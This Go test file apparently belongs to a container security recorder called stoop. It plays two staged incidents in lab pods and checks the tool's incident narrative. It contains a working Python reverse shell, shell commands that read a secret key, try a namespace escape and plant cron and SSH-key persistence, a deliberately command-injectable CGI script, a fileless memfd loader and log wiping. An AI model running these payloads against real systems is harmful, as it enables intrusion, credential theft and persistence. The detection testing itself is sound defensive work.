//go:build linux

package livetest

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/stoop-project/stoop/test/lab"
)

// Two incidents that are played here, and have nothing in common with the
// demo's but that they are incidents: other pods, tools, addresses and another
// order. Each is recorded by stoop while it happens, and its story is compared
// with what was done.

// recorded are the calls that the incidents are recorded by: those of the
// deeds, and what is read and written, so that what was typed is there.
const recorded = "execve, execveat, procexit, clone, clone3, fork, vfork, open, openat, openat2, creat, unlink, unlinkat, rename, renameat, " +
	"renameat2, chmod, fchmod, fchmodat, connect, accept, accept4, dup, dup2, dup3, memfd_create, read, write, recvfrom, sendto, setns, symlink"

// record records what a container does while play runs.
func record(t *testing.T, c *lab.Container, play func()) (file string) {
	t.Helper()
	file = filepath.Join(t.TempDir(), "played.stoop")
	r := start(t, "record", "live", "--to", file, "-f", "container.id = "+c.ID[:12]+" and evt.type in ("+recorded+")")
	if !eventually(30*time.Second, func() bool { return links(r.cmd.Process.Pid) > 10 }) {
		t.Fatalf("stoop has not attached: %s", r.stderr.String())
	}
	r.attached(t)
	play()
	r.stop(t)
	return file
}

// storyOfAlert tells the story of the alert of a rule.
func storyOfAlert(t *testing.T, rule string, files ...string) string {
	t.Helper()
	run := func(args ...string) string {
		cmd := exec.Command(stoopPath(t), append(append([]string{"print"}, files...), append(args, "-r", "stoop")...)...)
		var errs bytes.Buffer
		cmd.Stderr = &errs
		out, err := cmd.Output()
		if err != nil {
			t.Fatalf("%v: %s", err, errs.String())
		}
		return string(out)
	}
	alerts := strings.Split(strings.TrimSpace(run("-f", "alert.rule exists", "--columns", "alert.id,alert.rule", "-o", "csv")), "\n")
	for _, line := range alerts {
		if id, name, _ := strings.Cut(line, ","); strings.Contains(name, rule) {
			return run("--story", id)
		}
	}
	t.Fatalf("no rule like %q fired: %q\n%s", rule, alerts, run("-f", "evt.type in (execve, connect, openat, memfd_create)", "--columns", "evt.num,proc.pname,proc.cmdline,evt.type,evt.res,evt.args"))
	return ""
}

// tells compares a story with what it must tell, in this order.
func tells(t *testing.T, story string, patterns ...string) {
	t.Helper()
	rest := story
	for _, p := range patterns {
		at := regexp.MustCompile("(?m)" + p).FindStringIndex(rest)
		if at == nil {
			t.Fatalf("%q is not told, or not in its place, in\n%s", p, story)
		}
		rest = rest[at[1]:]
	}
}

// usr is the host's /usr for a pod: programs, and nothing else.
var usr = []lab.Mount{{Source: "/usr", Target: "/usr", ReadOnly: true}}

// withFiles is a root for a pod with files of its own.
func withFiles(files map[string]string) []lab.File {
	root := lab.HostRoot()
	made := map[string]bool{}
	for _, f := range root {
		made[f.Path] = true
	}
	for path, text := range files {
		for i, c := range path {
			if dir := path[:i]; c == '/' && !made[dir] {
				made[dir] = true
				root = append(root, lab.File{Path: dir, Mode: os.ModeDir | 0o755})
			}
		}
		root = append(root, lab.File{Path: path, Mode: 0o755, Body: []byte(text)})
	}
	return root
}

// TestPlayedExec: somebody with rights in the cluster runs Python in a pod,
// which calls home with a shell; the shell reads a secret, tries to get out of
// the container, and leaves itself two ways back.
func TestPlayedExec(t *testing.T) {
	lab.Need(t, "python3", "nsenter")
	home, err := net.Listen("tcp", "127.0.0.91:0")
	if err != nil {
		t.Fatal(err)
	}
	defer home.Close()
	host, port, _ := net.SplitHostPort(home.Addr().String())
	c := lab.Pod(t, lab.PodSpec{
		Namespace: "billing", Pod: "ledger-7", Spec: lab.Spec{
			Name: "ledger", Mounts: usr, Image: lab.Image{Ref: "registry.example/billing/ledger:9", Root: withFiles(map[string]string{
				"run/secrets/ledger/key.pem": "-----BEGIN KEY-----\n", "etc/cron.d/.keep": "", "root/.bashrc": "",
			})},
		},
	})
	code := "import socket,os;s=socket.create_connection(('" + host + "'," + port + "));[os.dup2(s.fileno(),f) for f in (0,1,2)];os.execv('/bin/bash',['bash'])"
	began := time.Now()
	file := record(t, c, func() {
		began = time.Now()
		cmd := c.Command(t.Context(), "/usr/bin/python3", "-I", "-S", "-c", code)
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		shell, err := home.Accept()
		if err != nil {
			t.Fatal(err)
		}
		for _, line := range []string{
			"id", "cat /run/secrets/ledger/key.pem", "nsenter -t 1 -m true",
			"echo '* * * * * root /opt/sync' > /etc/cron.d/sync", "mkdir -p /root/.ssh; echo ssh-ed25519 AAAA > /root/.ssh/authorized_keys",
			"echo PASSWORD=hunter2hunter2 >/dev/null", "exit 3",
		} {
			if _, err := fmt.Fprintln(shell, line); err != nil {
				t.Fatal(err)
			}
		}
		_, _ = io.Copy(io.Discard, shell) // to the shell's end
		_ = cmd.Wait()
	})
	uri := "/api/v1/namespaces/billing/pods/ledger-7/exec?" + url.Values{"container": {"ledger"}, "command": {"/usr/bin/python3", "-I", "-S", "-c", code}}.Encode()
	record := map[string]any{
		"kind": "Event", "apiVersion": "audit.k8s.io/v1", "auditID": "e1", "stage": "ResponseStarted", "verb": "create", "requestURI": uri,
		"user":      map[string]any{"username": "ops-bot", "groups": []string{"system:serviceaccounts"}},
		"sourceIPs": []string{"203.0.113.77"}, "userAgent": "kubectl/v1.31.0", "responseStatus": map[string]any{"code": 101},
		"objectRef":      map[string]any{"resource": "pods", "namespace": "billing", "name": "ledger-7", "subresource": "exec"},
		"stageTimestamp": began.UTC().Format(time.RFC3339Nano),
	}
	text, err := json.Marshal(record)
	if err != nil {
		t.Fatal(err)
	}
	audit := filepath.Join(t.TempDir(), "audit.json")
	if err := os.WriteFile(audit, text, 0o600); err != nil {
		t.Fatal(err)
	}
	story := storyOfAlert(t, "network", file, audit)
	tells(t, story,
		`^  pod +billing/ledger-7$`,
		`^  by +user ops-bot \(system:serviceaccounts\) from 203\.0\.113\.77 with kubectl/v1\.31\.0$`,
		`^Lineage$`, `^  user ops-bot `, `python3[.0-9]* → bash`, `id  \d+$`, `cat /run/secrets/ledger/key\.pem  \d+$`, `nsenter -t 1 -m true`, `mkdir -p /root/\.ssh`,
		`^Story$`, `user ops-bot .* ran python3 -I -S -c import socket.* in the container, by the API server's pods/exec`,
		`python3 connected to 127\.0\.0\.91 port `+port,
		`python3 made the connection .*:`+port+` its standard input and output`, `ran bash`,
		`bash was told "id" over .*:`+port, `bash ran id`,
		`was told "cat /run/secrets/ledger/key\.pem"`, `bash ran cat`, `cat opened /run/secrets/ledger/key\.pem for reading`,
		`bash ran nsenter -t 1 -m true, which changes what its processes see of the machine`,
		`bash opened /etc/cron\.d/sync for writing`, `bash opened /root/\.ssh/authorized_keys for writing`,
		`bash was told "echo PASSWORD=\*+ >/dev/null"`,
		`^Kill chain$`, `Execution`, `Command and Control`, `Discovery`, `Credential Access`, `Privilege Escalation`, `Persistence`,
	)
	if strings.Contains(story, "hunter2") {
		t.Error("a password is told")
	}
}

// TestPlayedInjection: a web service made of a shell and busybox is told to
// fetch a program, which runs from memory alone and calls a pool; a log is
// emptied behind it.
func TestPlayedInjection(t *testing.T) {
	lab.Need(t, "python3", "busybox")
	program, err := os.ReadFile("/bin/busybox")
	if err != nil {
		t.Fatal(err)
	}
	pool, err := net.Listen("tcp", "127.0.0.92:0")
	if err != nil {
		t.Fatal(err)
	}
	defer pool.Close()
	hosts, err := net.Listen("tcp", "127.0.0.93:0")
	if err != nil {
		t.Fatal(err)
	}
	server := &http.Server{ReadHeaderTimeout: time.Minute, Handler: http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { _, _ = w.Write(program) })}
	go func() { _ = server.Serve(hosts) }()
	defer server.Close()
	_, poolPort, _ := net.SplitHostPort(pool.Addr().String())
	_, filePort, _ := net.SplitHostPort(hosts.Addr().String())
	web := freePort(t)
	loader := "import os,socket\ns=socket.create_connection(('127.0.0.93'," + filePort + "))\ns.sendall(b'GET /m HTTP/1.0\\r\\n\\r\\n')\nb=b''\nwhile True:\n" +
		" d=s.recv(65536)\n if not d: break\n b+=d\nf=os.memfd_create('kworker')\nos.write(f,b[b.index(b'\\r\\n\\r\\n')+4:])\n" +
		"os.execv('/proc/self/fd/%d'%f,['nc','127.0.0.92','" + poolPort + "'])\n"
	c := lab.Pod(t, lab.PodSpec{
		Namespace: "forms", Pod: "intake-5f6", Spec: lab.Spec{
			Name: "httpd", Mounts: usr, Command: []string{"/usr/bin/busybox", "httpd", "-f", "-p", "127.0.0.1:" + web, "-h", "/www"},
			Image: lab.Image{Ref: "registry.example/forms/intake:1", Root: withFiles(map[string]string{
				"www/cgi-bin/send": "#!/bin/sh\nprintf 'Content-Type: text/plain\\r\\n\\r\\n'\neval \"$(/usr/bin/busybox httpd -d \"$QUERY_STRING\")\"\n",
				"opt/form/load.py": loader, "var/log/intake.log": "a\n",
			})},
		},
	})
	if !eventually(30*time.Second, func() bool {
		conn, err := net.Dial("tcp", "127.0.0.1:"+web)
		if err == nil {
			conn.Close()
		}
		return err == nil
	}) {
		t.Fatal("the service does not answer")
	}
	time.Sleep(2 * time.Second) // what a service starts at once is the service
	file := record(t, c, func() {
		go func() {
			conn, err := pool.Accept()
			if err == nil {
				_, _ = fmt.Fprintln(conn, "job")
				conn.Close()
			}
		}()
		command := "/usr/bin/python3 -I -S /opt/form/load.py; : > /var/log/intake.log; /usr/bin/nosuch-scanner -p 1-99"
		res, err := http.Get("http://127.0.0.1:" + web + "/cgi-bin/send?" + url.QueryEscape(command))
		if err != nil {
			t.Fatal(err)
		}
		_, _ = io.Copy(io.Discard, res.Body)
		res.Body.Close()
	})
	story := storyOfAlert(t, "memory", file)
	tells(t, story,
		`^  pod +forms/intake-5f6$`,
		`^Story$`,
		`took a request, 127\.0\.0\.1:\d+->127\.0\.0\.1:`+web+`|had accepted a connection, .*:`+web,
		`python3 -I -S /opt/form/load\.py`,
		`python3 connected to 127\.0\.0\.93 port `+filePort,
		`python3 made a file in memory`,
		`a program that is in memory alone: `,
		`connected to 127\.0\.0\.92 port `+poolPort,
		`emptied /var/log/intake\.log`,
		`^Kill chain$`, `Initial Access`, `Execution`, `Defense Evasion`,
	)
}

func freePort(t *testing.T) string {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	return strconv.Itoa(l.Addr().(*net.TCPAddr).Port)
}
